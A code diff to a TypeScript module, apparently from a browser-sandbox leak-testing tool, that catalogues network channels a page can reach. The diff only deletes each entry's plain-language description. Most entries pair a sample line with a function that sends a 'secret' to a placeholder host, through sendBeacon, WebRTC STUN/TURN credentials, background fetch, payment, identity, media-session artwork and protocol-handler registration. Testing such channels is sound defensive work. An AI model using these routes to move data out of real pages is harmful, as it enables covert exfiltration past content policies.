@@ -8,43 +8,33 @@ import { showInPlayer } from './show-in-player.ts';
 export const lineChannels: readonly Channel[] = [
   {
     id: 'beacon',
-    words: 'send a parting note',
     code: "navigator.sendBeacon('$URL', secret)",
     // It answers true although it was refused: only a report counts here.
     run: ({ url, secret }) => (navigator.sendBeacon(url, secret), noWord),
   },
   ...(['stun', 'turn', 'turns'] as const).map((kind): Channel => ({
     id: `rtc-${kind}`,
-    words: {
-      stun: 'ask a stranger for the way to another device',
-      turn: 'reach another device through a stranger',
-      turns: 'do the same, encrypted',
-    }[kind],
     code: `new RTCPeerConnection({ iceServers: [{ urls: '${kind}:$HOST' }] })`,
     run: async ({ host, secret }) => await gather({ urls: `${kind}:${host}`, username: secret, credential: secret }),
   })),
   {
     id: 'rtc-turn-tcp',
-    words: 'do it over another kind of line',
     code: "new RTCPeerConnection({ iceServers: [{ urls: 'turn:$HOST?transport=tcp' }] })",
     run: async ({ host, secret }) =>
       await gather({ urls: `turn:${host}?transport=tcp`, username: secret, credential: secret }),
   },
   {
     id: 'rtc-candidate',
-    words: 'knock at another device directly',
     code: "peer.addIceCandidate('candidate … udp … $HOST … host')",
     run: ({ host }) => knock(host),
   },
   {
     id: 'background-fetch',
-    words: 'have the browser fetch in the background',
     code: "registration.backgroundFetch.fetch('leak', ['$URL'])",
     run: ({ url }) => fetchInBackground(url),
   },
   {
     id: 'payment',
-    words: 'ask a shop whether it takes payment',
     code: "new PaymentRequest([{ supportedMethods: '$HTTPS' }], total).canMakePayment()",
     run: async ({ secureUrl }) => {
       if (typeof PaymentRequest === 'undefined') return missing;
@@ -55,7 +45,6 @@ export const lineChannels: readonly Channel[] = [
   },
   {
     id: 'identity',
-    words: 'ask a stranger to sign one in',
     code: "navigator.credentials.get({ identity: { providers: [{ configURL: '$HTTPS' }] } })",
     run: async ({ secureUrl }) => {
       if (!('IdentityCredential' in globalThis)) return missing;
@@ -65,14 +54,12 @@ export const lineChannels: readonly Channel[] = [
   },
   {
     id: 'media-session',
-    words: 'name a picture for the browser’s own player',
     code: "navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: '$URL' }] })",
     silentWall: 'policy',
     run: ({ url }) => showInPlayer(url),
   },
   {
     id: 'protocol-handler',
-    words: 'have a stranger open one’s links',
     code: "navigator.registerProtocolHandler('web+leak', '$URL&to=%s')",
     // Never a question to the person: another site's address is refused before.
     run: ({ url }) => {
